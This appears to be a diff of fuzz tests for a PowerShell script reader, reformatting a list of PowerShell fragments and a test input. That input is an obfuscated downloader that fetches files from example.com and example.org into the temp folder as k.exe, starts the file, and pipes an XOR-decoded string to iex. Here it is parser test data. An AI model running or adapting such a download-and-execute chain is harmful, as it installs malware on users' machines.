@@ -12,13 +12,105 @@ from hypothesis import strategies as st
 from tidewaiter.reading.budget import Budget
 from tidewaiter.reading.powershell import decode_command, parse, script_file
 
-PIECES = (
-    "iex|iwr|$x|$x=|(|)|{|}|[|]|@(|@{|@'\n|\n'@|'|\"|`|;|\n|,|.|::|..|+|-|-f|-join|-split|-replace|-bxor|*|/|%|==|=|+=|&|&&|||"
-    "|if(|else{|foreach($i in |for(;;){|while($true){|do{|function f{|switch(|try{|catch{|return |break|[char]|[int]|[byte[]]"
-    '|New-Object |Net.WebClient|.DownloadString(|.Invoke(|.Split(|.Replace(|0..9|65535|\'a\'|"$x"|"$(|$_|%{|?{|$env:temp\\x'
-    "|[Convert]::FromBase64String(|[Text.Encoding]::UTF8.GetString(|<#|#>|#|–|‘|”|\u202e|\x00|^|!|~|2>|>|>>|--%|@x|$($|${"
-    "|[scriptblock]::Create(|sal |gv |$args|param($a)|'http://example.com/x'| | | "
-).split("|")
+PIECES = [
+    "iex",
+    "iwr",
+    "$x",
+    "$x=",
+    "(",
+    ")",
+    "{",
+    "}",
+    "[",
+    "]",
+    "@(",
+    "@{",
+    "@'\n",
+    "\n'@",
+    "'",
+    '"',
+    "`",
+    ";",
+    "\n",
+    ",",
+    ".",
+    "::",
+    "..",
+    "+",
+    "-",
+    "-f",
+    "-join",
+    "-split",
+    "-replace",
+    "-bxor",
+    "*",
+    "/",
+    "%",
+    "==",
+    "=",
+    "+=",
+    "&",
+    "&&",
+    "if(",
+    "else{",
+    "foreach($i in ",
+    "for(;;){",
+    "while($true){",
+    "do{",
+    "function f{",
+    "switch(",
+    "try{",
+    "catch{",
+    "return ",
+    "break",
+    "[char]",
+    "[int]",
+    "[byte[]]",
+    "New-Object ",
+    "Net.WebClient",
+    ".DownloadString(",
+    ".Invoke(",
+    ".Split(",
+    ".Replace(",
+    "0..9",
+    "65535",
+    "'a'",
+    '"$x"',
+    '"$(',
+    "$_",
+    "%{",
+    "?{",
+    "$env:temp\\x",
+    "[Convert]::FromBase64String(",
+    "[Text.Encoding]::UTF8.GetString(",
+    "<#",
+    "#>",
+    "#",
+    "–",
+    "‘",
+    "”",
+    "\u202e",
+    "\x00",
+    "^",
+    "!",
+    "~",
+    "2>",
+    ">",
+    ">>",
+    "--%",
+    "@x",
+    "$($",
+    "${",
+    "[scriptblock]::Create(",
+    "sal ",
+    "gv ",
+    "$args",
+    "param($a)",
+    "'http://example.com/x'",
+    " ",
+    " ",
+    " ",
+]
 
 BOMBS = {
     "nested quotes": '"' * 10_000,
@@ -100,9 +192,10 @@ def test_random_text(text: str) -> None:
 
 
 def test_cut_and_changed_scripts() -> None:
-    generator = random.Random(7)  # noqa: S311 - repeatable noise
+    generator = random.Random(7)
     text = (
-        "$u='http://example.com/a*http://example.org/b'.Split('*');foreach($x in $u){try{(&('new-'+'object') Net.WebClient).\"d`own"
+        "$u='http://example.com/a*http://example.org/b'.Split('*');foreach($x in $u){try{"
+        "(&('new-'+'object') Net.WebClient).\"d`own"
         'loadFile"($x,"$env:temp\\k.exe");if((gi k).Length -ge 9){saps k -Arg @{a=1};break}}catch{}};'
         "-join(1..9|%{[char]($_ -bxor 0x35)})|iex;[regex]::Matches('abc','.')|%{$_.Value}"
     )
